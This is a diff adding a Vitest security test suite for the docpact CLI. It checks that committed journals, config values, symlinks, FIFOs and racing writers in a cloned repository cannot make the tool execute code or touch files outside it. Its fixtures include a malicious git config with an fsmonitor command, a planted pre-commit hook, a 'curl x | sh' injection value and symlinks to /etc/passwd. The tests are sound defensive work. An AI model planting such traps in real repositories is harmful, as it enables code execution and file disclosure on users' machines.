@@ -1,0 +1,176 @@
+/**
+ * A cloned repository is untrusted input (issue #11): committed state files,
+ * symlinks, FIFOs and racing writers must never make docpact execute, read or
+ * write outside the repository, or half-apply a plan.
+ */
+import { execFileSync, spawn } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { BIN, DATE, exists, initRepo, read, run, runAsync, snapshot, tempRepo, write } from './helpers.js';
+
+const ADR = 'docs/source/adr';
+const git = (dir: string, ...args: string[]) => execFileSync('git', ['-C', dir, ...args], { encoding: 'utf8' });
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+const oneLine = (stderr: string) => {
+  expect(stderr.trim().split('\n'), stderr).toHaveLength(1);
+  expect(stderr).toMatch(/^docpact: /);
+  expect(stderr).not.toMatch(/\n\s+at /);
+};
+
+/** Commit everything (ignored files too) and clone it next to a canary folder. */
+function cloneOf(origin: string): string {
+  git(origin, 'add', '-A', '-f');
+  git(origin, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'trap');
+  const clone = path.join(tempRepo(false), 'clone');
+  execFileSync('git', ['clone', '-q', origin, clone]);
+  return clone;
+}
+
+describe('a committed journal', () => {
+  it('is never acted on: no move into .git, no file moved, one line and exit 2', () => {
+    const origin = initRepo();
+    // The trap: temps named as docpact names them, moves into .git, and identities copied from the attacker's own files.
+    const payload = '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch PWNED; false"\n';
+    write(origin, '.docpact/tmp/1234-abc-aaaaaaaa.tmp', payload);
+    write(origin, '.docpact/tmp/1234-abc-bbbbbbbb.tmp', '#!/bin/sh\ntouch PWNED\n');
+    const id = (rel: string) => {
+      const st = fs.statSync(path.join(origin, rel), { bigint: true });
+      return { dev: String(st.dev), ino: String(st.ino), ctime: String(st.ctimeNs) };
+    };
+    write(
+      origin,
+      '.docpact/journal.json',
+      JSON.stringify({
+        phase: 'forward',
+        moves: [
+          { tmp: '.docpact/tmp/1234-abc-aaaaaaaa.tmp', target: '.git/config', exclusive: false, id: id('.docpact/tmp/1234-abc-aaaaaaaa.tmp') },
+          { tmp: '.docpact/tmp/1234-abc-bbbbbbbb.tmp', target: '.git/hooks/pre-commit', exclusive: true, id: id('.docpact/tmp/1234-abc-bbbbbbbb.tmp') },
+        ],
+      }),
+    );
+    const clone = cloneOf(origin);
+    const gitConfig = read(clone, '.git/config');
+    const before = snapshot(clone);
+    for (const args of [['check'], ['adr', 'list'], ['chat', 'list'], ['adr', 'new', 'X', '--date', DATE], ['check', '--fix']]) {
+      const r = run(clone, args);
+      expect(r.code, args.join(' ')).toBe(2);
+      oneLine(r.stderr);
+      expect(r.stderr).toMatch(/journal\.json was not written by docpact on this machine/);
+    }
+    // The old format (moving a tracked file) is refused the same way.
+    write(clone, '.docpact/journal.json', JSON.stringify({ moves: [{ tmp: 'docpact.yaml', target: '.git/config', exclusive: false }] }));
+    expect(run(clone, ['adr', 'list']).code).toBe(2);
+    write(clone, '.docpact/journal.json', read(origin, '.docpact/journal.json'));
+    git(clone, 'status', '--short');
+    expect(exists(clone, 'PWNED')).toBe(false);
+    expect(read(clone, '.git/config')).toBe(gitConfig);
+    expect(exists(clone, '.git/hooks/pre-commit')).toBe(false);
+    const shas = (m: ReturnType<typeof snapshot>) => [...m].map(([k, v]) => `${k} ${v.sha}`);
+    expect(shas(snapshot(clone))).toEqual(shas(before));
+  });
+
+  it('refuses paths.* that point into .git, and names unknown keys', () => {
+    const dir = initRepo();
+    const config = read(dir, 'docpact.yaml');
+    write(dir, 'docpact.yaml', config.replace('generated: docs/_generated', 'generated: .git/hooks').replace('docs: docs/source', 'docs: "docs/source; curl x | sh"') + 'bogus: 1\n__proto__: {}\n');
+    const hooks = fs.readdirSync(path.join(dir, '.git/hooks'));
+    const r = run(dir, ['check', '--fix']);
+    expect(r.code).toBe(2);
+    expect(r.stdout).toMatch(/paths\.generated: must be a folder inside the repository.*no "\.git"/);
+    expect(r.stdout).toMatch(/paths\.docs: must be a folder/);
+    expect(r.stdout).toMatch(/bogus: unknown key/);
+    expect(r.stdout).toMatch(/__proto__: unknown key/);
+    expect(fs.readdirSync(path.join(dir, '.git/hooks'))).toEqual(hooks);
+  });
+});
+
+describe('the repo lock', () => {
+  it('is taken over atomically when its holder dies: 32 queued writers, distinct numbers, no crash', async () => {
+    const dir = initRepo();
+    for (let round = 0; round < 2; round++) {
+      // A holder stopped right after journaling its plan, while holding the lock.
+      const holder = spawn(process.execPath, [BIN, 'adr', 'new', `Holder ${round}`, '--date', DATE], { cwd: dir, env: { ...process.env, DOCPACT_STOP_AT: 'move:0' }, stdio: 'ignore' });
+      const exited = new Promise((r) => holder.on('exit', r));
+      const state = () => fs.readFileSync(`/proc/${holder.pid}/stat`, 'utf8').split(') ')[1]?.[0];
+      while (state() !== 'T') await sleep(20);
+      const writers = Array.from({ length: 32 }, (_, i) => runAsync(dir, ['adr', 'new', `Writer ${round} ${i}`, '--date', DATE]));
+      await sleep(2500); // let them queue on the lock
+      holder.kill('SIGKILL');
+      await exited;
+      const results = await Promise.all(writers);
+      for (const r of results) expect(r.code, r.stderr).toBe(0);
+    }
+    const numbers = fs.readdirSync(path.join(dir, ADR)).filter((f) => /^ADR-\d{4}-/.test(f)).map((f) => f.slice(4, 8));
+    expect(numbers).toHaveLength(1 + 2 * 33);
+    expect(new Set(numbers).size).toBe(numbers.length);
+    const check = run(dir, ['check']);
+    expect(check.code, check.stdout).toBe(0);
+  }, 240_000);
+});
+
+describe('symlinks and special files on read', () => {
+  it('refuses template overrides that lead outside, and reports bad form files in check', () => {
+    const sandbox = tempRepo(false);
+    const dir = path.join(sandbox, 'repo');
+    fs.mkdirSync(dir);
+    expect(run(dir, ['init', '--yes', '--date', DATE]).code).toBe(0);
+    const before = snapshot(dir);
+    // One overridden template is a link to /etc/passwd.
+    fs.mkdirSync(path.join(dir, '.docpact/templates/docs/adr'), { recursive: true });
+    fs.symlinkSync('/etc/passwd', path.join(dir, '.docpact/templates/docs/adr/adr.md.hbs'));
+    let r = run(dir, ['adr', 'new', 'Leak', '--date', DATE]);
+    expect(r.code).toBe(2);
+    oneLine(r.stderr);
+    expect(r.stderr).toMatch(/adr\.md\.hbs: it is a symbolic link that leads outside the repository/);
+    // The whole override folder is a link to an outside folder.
+    fs.rmSync(path.join(dir, '.docpact/templates'), { recursive: true });
+    fs.mkdirSync(path.join(sandbox, 'outside/docs/adr'), { recursive: true });
+    fs.writeFileSync(path.join(sandbox, 'outside/docs/adr/adr.md.hbs'), 'SECRET {{title}}\n');
+    fs.symlinkSync(path.join(sandbox, 'outside'), path.join(dir, '.docpact/templates'));
+    r = run(dir, ['adr', 'new', 'Leak', '--date', DATE]);
+    expect(r.code).toBe(2);
+    oneLine(r.stderr);
+    fs.rmSync(path.join(dir, '.docpact/templates'));
+    const after = snapshot(dir);
+    after.delete('.docpact/.gitignore');
+    before.delete('.docpact/.gitignore');
+    expect([...after.keys()]).toEqual([...before.keys()]);
+    // check: a link out, a loop and a FIFO among the issue forms are problems, not leaks, hangs or crashes.
+    const forms = path.join(dir, '.github/ISSUE_TEMPLATE');
+    fs.symlinkSync('/etc/passwd', path.join(forms, 'evil.yaml'));
+    fs.symlinkSync('loop.yaml', path.join(forms, 'loop.yaml'));
+    execFileSync('mkfifo', [path.join(forms, 'pipe.yaml')]);
+    r = run(dir, ['check']);
+    expect(r.code, r.stderr).toBe(1);
+    expect(r.stdout).not.toMatch(/root:/);
+    expect(r.stdout.split('\n').filter((l) => l.includes('repo/unsafe-path:')).sort()).toEqual([
+      '.github/ISSUE_TEMPLATE/evil.yaml:1: repo/unsafe-path: docpact does not read this file: it is a symbolic link that leads outside the repository (/etc/passwd).',
+      '.github/ISSUE_TEMPLATE/loop.yaml:1: repo/unsafe-path: docpact does not read this file: it is a symbolic link loop.',
+      '.github/ISSUE_TEMPLATE/pipe.yaml:1: repo/unsafe-path: docpact does not read this file: it is not a regular file (a FIFO, socket or device). Replace it with a regular file.',
+    ]);
+    expect(fs.readdirSync(sandbox).sort()).toEqual(['outside', 'repo']);
+  });
+});
+
+describe('the temp folder', () => {
+  it('is never followed: a .docpact/tmp link into the repo is refused and nothing there is deleted', () => {
+    const dir = initRepo();
+    fs.rmSync(path.join(dir, '.docpact/tmp'), { recursive: true, force: true });
+    const before = snapshot(dir);
+    fs.symlinkSync('../docs/source/adr', path.join(dir, '.docpact/tmp'));
+    const r = run(dir, ['adr', 'new', 'Wipe', '--date', DATE]);
+    expect(r.code).toBe(2);
+    oneLine(r.stderr);
+    expect(r.stderr).toMatch(/\.docpact\/tmp: it is a symbolic link/);
+    fs.unlinkSync(path.join(dir, '.docpact/tmp'));
+    expect(snapshot(dir)).toEqual(before);
+    // A real temp folder: only files with docpact's temp names are swept, never other files or links.
+    fs.mkdirSync(path.join(dir, '.docpact/tmp'));
+    write(dir, '.docpact/tmp/notes.txt', 'mine\n');
+    fs.symlinkSync('../../docs/source/adr/index.md', path.join(dir, '.docpact/tmp/1-a-aaaaaaaa.tmp'));
+    expect(run(dir, ['adr', 'new', 'Sweep', '--date', DATE]).code).toBe(0);
+    expect(fs.readdirSync(path.join(dir, '.docpact/tmp')).sort()).toEqual(['1-a-aaaaaaaa.tmp', 'notes.txt']);
+    expect(exists(dir, `${ADR}/index.md`)).toBe(true);
+  });
+});
